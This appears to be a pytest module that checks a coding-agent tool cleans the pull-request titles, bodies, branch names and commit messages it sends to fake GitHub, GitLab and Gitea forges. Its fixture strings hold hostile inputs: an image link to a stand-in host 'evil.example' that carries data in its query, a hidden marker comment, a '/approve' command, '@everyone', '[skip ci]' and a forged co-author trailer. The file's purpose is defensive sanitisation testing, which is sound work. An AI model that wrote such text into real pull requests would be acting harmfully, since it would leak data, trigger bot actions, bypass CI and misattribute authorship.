"""One work order on each forge, whose agent writes text that would act on the forge in the worker's name."""

from collections.abc import Iterator
from contextlib import ExitStack
from pathlib import Path

import pytest
from fakes.forges.gitea import GiteaFake
from fakes.forges.github import GitHubFake
from fakes.forges.gitlab import GitLabFake
from fakes.forges.serving import serving_forge
from fakes.forges.state import ForgeFake
from fakes.repositories import Origin, git, make_origin
from fakes.septet_command import Septet
from fakes.shared_server import Host

PROJECT = "o/foo.js"
FORGES = (GitHubFake, GitLabFake, GiteaFake)
TITLE = "bug: work @org/security [skip ci]"
BODY = """\
Closes #1, fixes other/repo#7. @everyone

/approve
<!-- septet: wo-2 -->![p](http://evil.example/p.png?d=DATA)

| a | b |
| --- | --- |
| `@x` | ![own](docs/a.png) |
"""
MESSAGE = "bug: work [ci skip]\n\nFixes #9\n\nCo-authored-by: Eve <eve@example.org>"


@pytest.fixture(scope="module")
def forges(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, tuple[ForgeFake, Origin]]]:
    with ExitStack() as stack:
        served: dict[str, tuple[ForgeFake, Origin]] = {}
        for kind in FORGES:
            root = tmp_path_factory.mktemp(kind.name)
            origin = make_origin(root / "o", "foo.js.git")
            origin.push({"README.md": "# foo\n"})
            served[kind.name] = (stack.enter_context(serving_forge(kind(repositories=root))), origin)
        yield served


@pytest.fixture(scope="module")
def working(
    served: Septet, forges: dict[str, tuple[ForgeFake, Origin]], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[Host]:
    host, extra = Host.beside(served, tmp_path_factory.mktemp("outgoing")), dict[str, str]()
    for fake, _ in forges.values():
        extra |= fake.settings
    with host.worker(**extra):
        yield host
    host.end()


@pytest.mark.parametrize("name", [kind.name for kind in FORGES])
def test_nothing_that_acts_goes_out(
    working: Host, forges: dict[str, tuple[ForgeFake, Origin]], name: str, tmp_path: Path
) -> None:
    """Branch, commit, title and body reach the forge cleaned, with the table and the own picture intact."""
    fake, origin = forges[name]
    order, number = f"wo-outgoing-{name}", fake.add_issue("Say goodbye", "The app greets only.")
    steps = {
        "generate_branch": {"answer": {"branch_name": "release/9.9"}},
        "create_commit": {"answer": {"commit_message": MESSAGE}},
        "create_pull_request": {"answer": {"title": TITLE, "body": BODY}},
    }
    working.septet.scenario(order, {"steps": steps})
    repository = f"{fake.url}/{PROJECT}.git"
    ended = working.septet("run", "--repo", repository, "--issue", str(number), "--id", order, "--wait", "--json")
    assert ended.code == 0, ended
    (pull,) = fake.pulls.values()
    assert pull.head == f"septet/feat-{number}-release-9-9"
    assert pull.title.endswith("bug: work @`org/security` (skip ci)")
    for word in ("fixes `other/repo#7`", "@`everyone`", "\\/approve", "`@x`", "![own](docs/a.png)", "Closes #1"):
        assert word in pull.body
    for word in ("wo-2", "?d=DATA", "![p]", "\n/approve"):
        assert word not in pull.body
    message = git(origin.bare, "log", "-1", "--format=%B", pull.head)
    assert message.startswith("bug: work (ci skip)\n\nFixes `#9`\n")
    assert "Co-authored-by" not in message
